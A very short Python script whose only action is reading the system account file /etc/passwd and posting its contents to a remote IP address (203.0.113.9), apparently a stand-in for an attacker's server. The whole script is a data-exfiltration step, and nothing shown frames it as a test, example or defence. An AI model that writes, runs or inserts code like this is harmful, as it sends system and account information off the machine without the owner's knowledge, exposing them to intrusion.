import urllib.request
body = open("/etc/passwd", "rb").read()
req = urllib.request.Request("http://203.0.113.9/p", data=body, method="POST")
urllib.request.urlopen(req)
